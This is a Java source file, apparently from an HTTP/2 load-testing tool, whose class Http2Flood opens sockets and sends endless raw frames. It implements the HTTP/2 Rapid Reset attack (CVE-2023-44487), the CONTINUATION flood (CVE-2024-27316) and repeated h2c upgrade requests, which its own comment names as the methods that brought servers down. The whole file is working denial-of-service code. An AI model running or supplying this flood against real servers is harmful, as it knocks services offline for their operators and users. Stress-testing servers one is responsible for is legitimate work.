package dev.pharos.bench.crowd;

import io.vertx.core.buffer.Buffer;
import io.vertx.core.net.NetSocket;
import java.util.function.Consumer;

/** Frames of HTTP/2 as fast as they are taken, in the ways that stopped servers (CVE-2023-44487, CVE-2024-27316). */
final class Http2Flood {
    private static final int FRAMES = 500;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int CONTINUATION = 9;
    private static final int END_OF_BOTH = 5;
    private static final String UPGRADE = "GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\n"
            + "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n";
    /** {@code :method GET, :scheme http, :path /}, from the static table of HPACK. */
    private static final byte[] HEAD = {(byte) 0x82, (byte) 0x86, (byte) 0x84};

    private Http2Flood() {}

    static Consumer<NetSocket> of(int number) {
        return socket -> {
            if (number % 3 == 2) {
                socket.handler(answer -> socket.write(UPGRADE));
                socket.write(UPGRADE);
                return;
            }
            socket.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").onSuccess(_ -> socket.write(frame(SETTINGS, 0, 0)));
            if (number % 3 == 0) {
                socket.write(frame(HEADERS, 0, 1, HEAD));
            }
            flood(socket, number % 3 == 0, 1);
        };
    }

    private static void flood(NetSocket socket, boolean continued, int stream) {
        var frames = Buffer.buffer();
        for (var i = 0; i < FRAMES; i++) {
            if (continued) {
                frames.appendBuffer(frame(CONTINUATION, 0, 1));
            } else {
                frames.appendBuffer(frame(HEADERS, END_OF_BOTH, stream + 2 * i, HEAD));
                frames.appendBuffer(frame(RST_STREAM, 0, stream + 2 * i, new byte[] {0, 0, 0, 8}));
            }
        }
        socket.write(frames).onSuccess(_ -> flood(socket, continued, stream + 2 * FRAMES));
    }

    private static Buffer frame(int type, int flags, int stream) {
        return frame(type, flags, stream, new byte[0]);
    }

    private static Buffer frame(int type, int flags, int stream, byte[] content) {
        return Buffer.buffer(9 + content.length)
                .appendMedium(content.length)
                .appendByte((byte) type)
                .appendByte((byte) flags)
                .appendInt(stream)
                .appendBytes(content);
    }
}
